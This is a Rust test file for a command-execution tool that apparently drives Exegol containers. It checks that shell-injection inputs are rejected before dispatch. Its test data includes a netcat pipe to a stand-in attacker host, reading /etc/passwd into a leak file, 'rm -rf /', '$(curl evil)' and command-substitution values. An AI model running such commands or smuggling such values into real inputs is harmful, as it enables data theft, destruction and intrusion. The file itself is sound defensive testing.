//! Injection attempts must be rejected before anything is dispatched

mod common;

use std::collections::HashMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use exrun::{Operations, WorkflowCatalog};

/// Stub that leaves a marker file for every exec invocation, so tests can
/// prove a rejected input never reached the collaborator.
fn tattling_config(dir: &Path) -> exrun::EngineConfig {
    let marker_dir = dir.join("invocations");
    std::fs::create_dir(&marker_dir).unwrap();
    let script = format!(
        "#!/bin/sh\n\
         if [ \"$1\" = \"exec\" ]; then\n\
           touch {}/exec-$$\n\
           shift 3; exec sh -c \"$1\"\n\
         fi\n\
         exit 2\n",
        marker_dir.display()
    );
    let path = dir.join("exegol");
    std::fs::write(&path, script).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();

    let mut config = exrun::EngineConfig::default();
    config.exegol_path = path.to_str().unwrap().to_string();
    config
}

fn invocation_count(dir: &Path) -> usize {
    std::fs::read_dir(dir.join("invocations")).unwrap().count()
}

#[tokio::test]
async fn chained_commands_are_rejected_unexecuted() {
    let dir = tempfile::tempdir().unwrap();
    let ops = Operations::with_builtin_catalog(tattling_config(dir.path())).unwrap();

    for command in [
        "echo hi; touch /tmp/pwned",
        "echo hi && touch /tmp/pwned",
        "echo hi | nc attacker 4444",
        "echo `id`",
        "echo $(id)",
        "cat /etc/passwd > /tmp/leak",
    ] {
        let response = ops.execute("box1", command, None, false).await;
        assert!(!response.success, "should reject: {command}");
        assert_eq!(response.error.unwrap().error_code, "UNSAFE_INPUT");
    }

    assert_eq!(
        invocation_count(dir.path()),
        0,
        "a rejected command must never reach the collaborator"
    );
}

#[tokio::test]
async fn bad_container_names_are_rejected_unexecuted() {
    let dir = tempfile::tempdir().unwrap();
    let ops = Operations::with_builtin_catalog(tattling_config(dir.path())).unwrap();

    for container in ["evil;rm", "two words", "$(id)", ""] {
        let response = ops.execute(container, "echo hi", None, false).await;
        assert!(!response.success, "should reject container: {container:?}");
    }
    assert_eq!(invocation_count(dir.path()), 0);
}

#[tokio::test]
async fn workflow_param_injection_is_rejected_before_any_step() {
    let dir = tempfile::tempdir().unwrap();
    let catalog = WorkflowCatalog::from_yaml(
        r#"
workflows:
  - id: echo_chain
    name: Echo Chain
    description: two harmless steps
    category: recon
    difficulty: easy
    required_params: [target]
    steps:
      - name: first
        command_template: "echo scanning {target}"
      - name: second
        command_template: "echo done {target}"
"#,
    )
    .unwrap();
    let ops = Operations::new(tattling_config(dir.path()), catalog);

    for value in [
        "10.0.0.1; rm -rf /",
        "10.0.0.1 --extra-arg",
        "$(curl evil)",
        "`id`",
        "a|b",
    ] {
        let params = HashMap::from([("target".to_string(), value.to_string())]);
        let response = ops.run_workflow("echo_chain", "box1", &params).await;
        assert!(!response.success, "should reject param: {value}");
        assert_eq!(response.error.unwrap().error_code, "UNSAFE_INPUT");
    }

    assert_eq!(
        invocation_count(dir.path()),
        0,
        "no workflow step may run with an unsafe parameter"
    );
}

#[tokio::test]
async fn sane_inputs_still_pass() {
    let dir = tempfile::tempdir().unwrap();
    let ops = Operations::with_builtin_catalog(tattling_config(dir.path())).unwrap();

    let response = ops.execute("box1", "echo hi", None, false).await;
    assert!(response.success);
    assert_eq!(invocation_count(dir.path()), 1);
}

#[tokio::test]
async fn trusted_templates_may_use_shell_operators() {
    // Catalog templates are load-time data: pipes and chaining inside them
    // are allowed, only the caller-bound values are screened.
    let dir = tempfile::tempdir().unwrap();
    let catalog = WorkflowCatalog::from_yaml(
        r#"
workflows:
  - id: piped
    name: Piped
    description: template with shell operators
    category: recon
    difficulty: easy
    required_params: [word]
    steps:
      - name: count
        command_template: "echo {word} {word} | wc -w && echo counted-{word}"
"#,
    )
    .unwrap();
    let ops = Operations::new(tattling_config(dir.path()), catalog);

    let params = HashMap::from([("word".to_string(), "safe".to_string())]);
    let response = ops.run_workflow("piped", "box1", &params).await;
    assert!(response.success);
    let data = response.data.unwrap();
    assert_eq!(data["status"], "completed");
    assert!(data["step_results"][0]["stdout"]
        .as_str()
        .unwrap()
        .contains("counted-safe"));
}
